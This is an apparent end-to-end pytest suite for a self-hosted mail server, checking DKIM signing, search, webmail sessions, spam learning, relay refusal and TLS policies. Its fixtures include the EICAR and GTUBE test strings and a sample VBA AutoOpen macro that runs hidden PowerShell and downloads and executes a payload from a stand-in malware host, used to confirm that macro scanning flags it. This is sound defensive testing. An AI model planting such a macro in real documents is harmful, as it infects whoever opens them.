"""A message's way through the stack, and what must not get through."""

from __future__ import annotations

import imaplib
import json
import smtplib
import time
import uuid
from collections.abc import Iterator
from http.client import HTTPConnection, HTTPResponse, HTTPSConnection

import pytest

from tests.e2e.guessers import untrusting
from tests.e2e.mail import ALICE, BOB, found, message, submit, until
from tests.e2e.stack import DOMAIN, HERE4, HERE6, HOST, Stack

pytestmark = [pytest.mark.e2e, pytest.mark.timeout(900)]

EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
# rspamd's test pattern for "add header" (enable_test_patterns): spam, but not enough of it to be refused.
SPAM = "YJS*C4JDBQADN1.NSBN3*2IDNEN*GTUBE-STANDARD-ANTI-UBE-TEST-EMAIL*C.34X"
# VBA as text, with everything that a macro should not do: olevba reads sources as well as documents.
MACRO = (
    b"""Attribute VB_Name = "ThisDocument"
Sub AutoOpen()
    Dim shell As Object
    Set shell = CreateObject("WScript.Shell")
    shell.Run "powershell -WindowStyle Hidden -EncodedCommand AAAA", 0, False
    URLDownloadToFile 0, "http://malware.example.org/payload.exe", Environ("TEMP") & "\\payload.exe", 0, 0
    Shell Environ("TEMP") & "\\payload.exe", vbHide
End Sub
"""
    + b"' padding, since short parts are not looked at\r\n" * 20
)


@pytest.fixture
def closing() -> Iterator[list[HTTPConnection]]:
    """Connections that end with the test."""
    open_: list[HTTPConnection] = []
    yield open_
    for connection in open_:
        connection.close()


def test_a_message_arrives_signed_and_is_found_by_a_word_in_it(stack: Stack, passwords: dict[str, str]):
    word = f"zebra{uuid.uuid4().hex[:8]}"
    sent = message(f"The {word} crosses the road.\n")
    submit(passwords[ALICE], sent)

    raw = found(passwords[BOB], "INBOX", "SUBJECT", sent["Subject"])

    assert found(passwords[BOB], "INBOX", "TEXT", word) == raw
    # Only the index knows that "crosses" and "crossing" are one word: without it a search is for letters.
    assert found(passwords[BOB], "INBOX", "BODY", word, "BODY", "crossing") == raw
    [record] = [row for row in stack.setup("dns", DOMAIN).splitlines() if row.startswith("mail._domainkey")]
    text = "".join(record.partition("TXT\t")[2].split('"')[1::2])
    (stack.folder / "signed.eml").write_bytes(raw)
    check = f"import dkim; print(dkim.verify(open('/ca/signed.eml','rb').read(), dnsfunc=lambda *a, **k: {text.encode()!r}))"
    assert stack.compose("exec", "-T", "lab", "python3", "-c", check).strip() == "True"


def test_sogo_lists_the_message_in_the_inbox(passwords: dict[str, str], closing: list[HTTPConnection]):
    sent = message("for the webmail\n")
    submit(passwords[ALICE], sent)
    found(passwords[BOB], "INBOX", "SUBJECT", sent["Subject"])
    closing.append(web := HTTPSConnection(HERE4, 443, context=untrusting(), timeout=60))
    host = {"Host": HOST, "Content-Type": "application/json"}
    login = json.dumps({"userName": BOB, "password": passwords[BOB]})

    def connected() -> HTTPResponse | None:
        web.request("POST", "/SOGo/connect", login, host)
        answer = web.getresponse()
        answer.read()
        return None if answer.status == 501 else answer  # once from each worker whose database went away

    answer = until(connected)
    cookies = answer.headers.get_all("Set-Cookie") or []
    session = [cookie for cookie in cookies if cookie.startswith("0xHIGHFLYxSOGo=")]
    assert answer.status == 200
    assert session
    assert all(f in session[0].lower() for f in ("secure", "httponly", "samesite=lax"))
    token = next(cookie for cookie in cookies if cookie.startswith("XSRF-TOKEN="))
    assert "secure" in token.lower()
    sent_back = "; ".join(cookie.partition(";")[0] for cookie in cookies)
    header = {**host, "Cookie": sent_back, "X-XSRF-TOKEN": token.partition("=")[2].partition(";")[0]}
    web.request("POST", f"/SOGo/so/{BOB}/Mail/0/folderINBOX/view", "{}", header)
    listed = web.getresponse()

    assert listed.status == 200
    assert sent["Subject"] in listed.read().decode()


def test_a_virus_is_refused(passwords: dict[str, str]):
    with pytest.raises(smtplib.SMTPDataError) as refused:
        submit(passwords[ALICE], message("see the attachment\n", attached=("game.com", EICAR)))
    assert refused.value.smtp_code == 554
    assert b"Eicar" in refused.value.smtp_error


def test_macros_are_flagged(stack: Stack, passwords: dict[str, str]):
    sent = message("the invoice\n", attached=("invoice.doc", MACRO))
    submit(passwords[ALICE], sent)
    until(lambda: "OLETOOLS" in stack.compose("logs", "--no-color", "rspamd"))


def test_spam_goes_to_junk_and_its_move_is_learned(stack: Stack, passwords: dict[str, str]):
    sent = message(f"{SPAM}\n")
    submit(passwords[ALICE], sent)
    raw = found(passwords[BOB], "Junk", "SUBJECT", sent["Subject"])
    assert b"X-Spam: Yes" in raw


def test_what_a_user_moves_to_junk_and_back_is_learned(
    stack: Stack, passwords: dict[str, str], closing: list[HTTPConnection]
):
    closing.append(web := HTTPSConnection(HERE4, 443, context=untrusting(), timeout=30))

    def learned(symbol: str, password: str = stack.setup("password", "rspamd").strip()) -> int:
        web.request("GET", "/rspamd/stat", headers={"Host": HOST, "Password": password})
        answer = web.getresponse()
        text = answer.read()
        assert answer.status == 200, text
        return sum(file["revision"] for file in json.loads(text)["statfiles"] if file["symbol"] == symbol)

    sent = message(f"Dear colleague, enclosed are the minutes of our meeting on {uuid.uuid4().hex}.\n" * 5)
    submit(passwords[ALICE], sent)
    found(passwords[BOB], "INBOX", "SUBJECT", sent["Subject"])
    spam, ham = learned("BAYES_SPAM"), learned("BAYES_HAM")
    for source, goal in (("INBOX", "Junk"), ("Junk", "INBOX")):
        with imaplib.IMAP4_SSL(HERE4, 993, ssl_context=untrusting()) as box:
            box.login(BOB, passwords[BOB])
            box.select(source)
            [number] = box.search(None, "SUBJECT", f'"{sent["Subject"]}"')[1][0].split()
            assert box._simple_command("MOVE", number.decode(), goal)[0] == "OK"
        if goal == "Junk":
            until(lambda: learned("BAYES_SPAM") > spam, 120)
        else:
            until(lambda: learned("BAYES_HAM") > ham, 120)
    web.request("GET", "/rspamd/stat", headers={"Host": HOST, "Password": "x" * 20})
    answer = web.getresponse()
    answer.read()
    assert answer.status in {401, 403}


def test_mail_from_outside_comes_in_and_is_relayed_for_nobody(stack: Stack, passwords: dict[str, str]):
    for n, client in enumerate(("198.51.100.90", "2001:db8:e2e:8::7")):
        sent = message("from another server\n")
        sent.replace_header("From", "carol@elsewhere.test")

        def deliver(to: str, sent=sent, client=client, n=n) -> None:
            with (
                stack.internet.entered(),
                smtplib.SMTP(
                    [HERE4, HERE6][n], 25, "mx.elsewhere.test", timeout=60, source_address=(client, 0)
                ) as peer,
            ):
                peer.starttls(context=untrusting())
                peer.sendmail("carol@elsewhere.test", [to], sent.as_bytes())

        for patience in (6, 6, None):  # a stranger is asked to come again (greylisting: 5 s in this test)
            try:
                deliver(BOB)
                break
            except smtplib.SMTPDataError as later:
                if later.smtp_code != 451 or patience is None:
                    raise
                time.sleep(patience)
        assert client in found(passwords[BOB], "INBOX", "SUBJECT", sent["Subject"]).decode()
        with pytest.raises(smtplib.SMTPRecipientsRefused):
            deliver("dave@other.test")


def test_the_certificate_of_the_test_ca_is_served_on_every_port(stack: Stack):
    for port in (443, 993, 465):
        assert stack.certified(port), port


def test_the_web_server_sends_http_to_https_and_serves_the_policy(
    stack: Stack, closing: list[HTTPConnection]
):
    closing.append(plain := HTTPConnection(HERE4, 80, timeout=60))
    plain.request("GET", "/SOGo/?a=b", headers={"Host": HOST})
    answer = plain.getresponse()
    assert (answer.status, answer.headers["Location"]) == (301, f"https://{HOST}/SOGo/?a=b")
    closing.append(web := HTTPSConnection(HERE4, 443, context=untrusting(), timeout=60))
    web.request("GET", "/.well-known/mta-sts.txt", headers={"Host": f"mta-sts.{DOMAIN}"})
    policy = web.getresponse()
    assert policy.status == 200
    assert f"mx: {HOST}" in policy.read().decode()
    assert "max-age" in policy.headers["Strict-Transport-Security"]


def test_the_resolver_of_policies_answers_postfix(stack: Stack):
    asked = stack.asked("postfix", "postmap", "-q", "nowhere.example", "socketmap:inet:mta-sts:8461:postfix")
    assert asked.returncode == 1  # it knows of none, and said so: an error would be told
    assert "error" not in asked.stderr.lower()


def test_a_policy_is_fetched_from_who_serves_one_and_postfix_told(stack: Stack):
    """Ours, as anybody else's server would fetch it: by its DNS record, over HTTPS, its certificate verified."""
    (stack.folder / "trusted.pem").write_text(stack.issuer.read_text())
    stack.compose("restart", "mta-sts")
    stack.settle()

    def told() -> str:
        asked = stack.asked("postfix", "postmap", "-q", DOMAIN, "socketmap:inet:mta-sts:8461:postfix")
        return asked.stdout.strip()

    assert until(told, 60).startswith(f"secure match={HOST}")
